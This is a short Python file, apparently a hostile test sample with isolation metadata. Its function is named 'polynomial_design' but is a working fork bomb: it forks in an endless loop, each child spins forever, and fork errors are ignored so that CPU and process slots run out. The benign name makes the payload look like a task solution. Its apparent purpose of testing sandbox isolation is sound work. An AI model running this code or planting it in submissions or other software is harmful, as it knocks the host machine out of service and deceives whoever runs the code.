"""Fork without bound, each child spinning, to starve the machine.

target: q2-polynomial_design
zero: q2-polynomial-tests
needs_isolation: true
"""
import os


def polynomial_design(x, M):
    while True:
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            pass
